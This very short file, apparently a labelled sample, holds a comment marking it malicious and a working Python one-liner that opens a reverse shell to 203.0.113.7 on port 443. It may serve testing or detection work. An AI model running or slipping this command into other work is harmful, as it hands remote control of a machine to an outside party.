# malicious: reverse shell by python
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
